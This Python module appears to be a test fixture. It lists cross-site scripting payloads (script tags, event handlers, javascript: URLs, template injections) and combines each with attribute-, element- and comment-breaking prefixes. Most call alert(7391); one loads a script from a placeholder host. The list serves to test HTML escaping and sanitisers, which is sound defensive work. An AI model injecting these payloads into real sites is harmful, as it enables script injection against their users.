"""Texts that would run a script if a page contained them unescaped."""

from itertools import product

_CALL = "alert(7391)"
_SCRIPTS = (
    f"<script>{_CALL}</script>",
    f"<SCRIPT>{_CALL}</SCRIPT>",
    f"<script/x>{_CALL}</script>",
    "<script src=//x.example/7391.js></script>",
    f"<img src=x onerror={_CALL}>",
    f"<img/src=x/onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<body onload={_CALL}>",
    f"<iframe src=javascript:{_CALL}>",
    f"<iframe srcdoc='<script>{_CALL}</script>'>",
    f"<a href=javascript:{_CALL}>7391</a>",
    f"<a href=' javascript:{_CALL}'>7391</a>",
    f"<form action=javascript:{_CALL}><input type=submit></form>",
    f"<input autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>",
    f"<object data=javascript:{_CALL}>",
    f"<embed src=javascript:{_CALL}>",
    f"<link rel=stylesheet href=javascript:{_CALL}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    f"<base href=javascript:{_CALL}//>",
    f"<style>@import 'javascript:{_CALL}';</style>",
    f"<div style=background:url(javascript:{_CALL})>",
    f"<template><script>{_CALL}</script></template>",
    f"<marquee onstart={_CALL}>",
    f"<select onfocus={_CALL} autofocus>",
    f"<keygen onfocus={_CALL} autofocus>",
    f"<isindex action=javascript:{_CALL}>",
    f"javascript:{_CALL}",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    f"{{% raw %}}{_CALL}{{% endraw %}}",
    f"${{{_CALL}}}",
)
_ENDS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "-->",
)
VECTORS = tuple(dict.fromkeys(end + script for end, script in product(_ENDS, _SCRIPTS)))
"""Each script, alone and behind characters that end an attribute, an element or a comment."""
